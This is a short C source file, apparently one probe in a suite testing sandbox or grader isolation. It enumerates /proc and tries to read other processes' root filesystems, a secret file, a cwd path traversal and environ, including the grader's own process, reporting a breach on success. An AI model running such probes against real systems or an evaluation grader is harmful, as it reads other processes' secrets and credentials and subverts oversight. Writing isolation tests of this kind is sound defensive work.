/* Goes through /proc/PID/root, /cwd and /environ of every process, and of the grader by its number. */
#define _GNU_SOURCE
#include "../../attack.h"

static void try_process(const char *pid)
{
    static const char *const tails[] = {"root" NEIGHBOUR, "root" SECRET_FILE,
                                        "cwd/../../../../.." NEIGHBOUR, "environ"};
    char path[4096];
    for (size_t i = 0; i < sizeof tails / sizeof tails[0]; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, tails[i]);
        if (file_tells(path))
            breach(path);
    }
}

static void attack(void)
{
    char grader[16];
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));)
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
            try_process(entry->d_name);
    snprintf(grader, sizeof grader, "%d", GRADER);
    try_process(grader);
}

ATTACK_THEN_NOTHING
